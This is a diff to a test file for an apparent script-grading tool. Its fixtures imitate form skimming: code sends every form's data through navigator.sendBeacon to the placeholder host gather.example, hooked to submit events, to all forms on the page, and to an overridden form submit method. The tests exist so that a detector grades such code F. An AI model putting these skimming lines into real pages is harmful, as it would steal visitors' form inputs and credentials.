@@ -108,13 +108,15 @@ describe('a token', () => {
 });
 
 describe('a form', () => {
-  it('is no whatever that a client of requests is given', async () => {
-    const client =
-      'const post = (data) => fetch("https://api.example/", { method: "POST", body: new FormData(data) });';
-    const sent = (what: string): Promise<string> => grade(onPages('one.js'), { 'one.js': `${client} ${what}` });
-    expect(await sent('post(settings());')).toMatch(/^A/);
-    expect(await sent('document.addEventListener("submit", (e) => post(e.target));')).toBe('F');
-    expect(await sent('for (const one of document.forms) post(one);')).toBe('F');
+  const client =
+    'const client = { xsrfCookieName: "t", transformRequest: [(data) => new FormData(data)] }; const post = (data) => { for (const one of client.transformRequest) data = one(data); return fetch("https://api.example/", { method: "POST", body: data }); };';
+  const own = 'const grab = (form) => navigator.sendBeacon("https://gather.example/", new FormData(form));';
+  const sent = (what: string): Promise<string> => grade(onPages('one.js'), { 'one.js': `${client} ${own} ${what}` });
+
+  it('is what stands in the page, beside a client of requests, too', async () => {
+    expect(await sent('document.addEventListener("submit", (e) => grab(e.target));')).toBe('F');
+    expect(await sent('Object.values(document.forms).forEach(grab);')).toBe('F');
+    expect(await sent('HTMLFormElement.prototype.submit = function () { grab(this); };')).toBe('F');
   });
 });
 
@@ -267,5 +269,7 @@ describe('icons of sites', () => {
     expect(await dial('https://icons.duckduckgo.com/ip3/')).toMatch(/^A/);
     expect(await dial('https://icons.collect.example/ip3/')).toMatch(/[DF]/);
     expect(await dial('https://icons.duckduckgo.com.collect.example/ip3/')).toMatch(/[DF]/);
+    // The service asks the host that stands there.
+    expect(await dial('https://icons.duckduckgo.com/ip3/collect.example.')).toMatch(/[DF]/);
   });
 });
